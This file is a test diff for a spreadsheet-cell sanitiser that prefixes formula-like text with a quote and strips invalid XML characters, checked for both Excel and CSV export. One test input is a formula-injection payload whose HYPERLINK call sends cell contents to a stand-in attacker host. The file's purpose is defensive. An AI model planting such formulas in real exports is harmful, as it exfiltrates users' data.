@@ -1,0 +1,65 @@
+"""safe_cell: text that starts like a formula gets a leading ``'``, characters XML cannot hold go,
+every other value keeps its type."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+from decimal import Decimal
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from techbridge.services.reports.cells import append_rows, csv_bytes, safe_cell
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        ),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\u0007=1+1", "'=1+1"),  # removed first, then neutralised
+        ("광학\u0007 소재\x00\ufffe", "광학 소재"),
+        ("line\nbreak\tand tab", "line\nbreak\tand tab"),
+        ("a=b, 1-2, x@y", "a=b, 1-2, x@y"),
+        ("", ""),
+    ],
+)
+def test_text_is_cleaned_and_never_starts_a_formula(text: str, written: str) -> None:
+    assert safe_cell(text) == written
+
+
+@pytest.mark.parametrize("value", [-5, -2.5, 0, Decimal("-1.5"), True, None, dt.date(2021, 1, 2)])
+def test_other_values_keep_their_type(value: object) -> None:
+    assert safe_cell(value) is value
+
+
+def test_a_workbook_holds_the_neutralised_text_as_text() -> None:
+    book = Workbook()
+    append_rows(book.active, [("name", "amount"), ("=1+1", -5), ("x\u0007", 3)])
+    out = io.BytesIO()
+    book.save(out)
+    sheet = load_workbook(out).active
+    assert [[(c.value, c.data_type) for c in line] for line in sheet.iter_rows()] == [
+        [("name", "s"), ("amount", "s")],
+        [("'=1+1", "s"), (-5, "n")],
+        [("x", "s"), (3, "n")],
+    ]
+
+
+def test_a_csv_writes_the_same_cells() -> None:
+    written = csv_bytes(["name", "amount"], [("=1+1", -5), ("x\u0007", None)])
+    assert list(csv.reader(io.StringIO(written.decode("utf-8")))) == [
+        ["name", "amount"],
+        ["'=1+1", "-5"],
+        ["x", ""],
+    ]
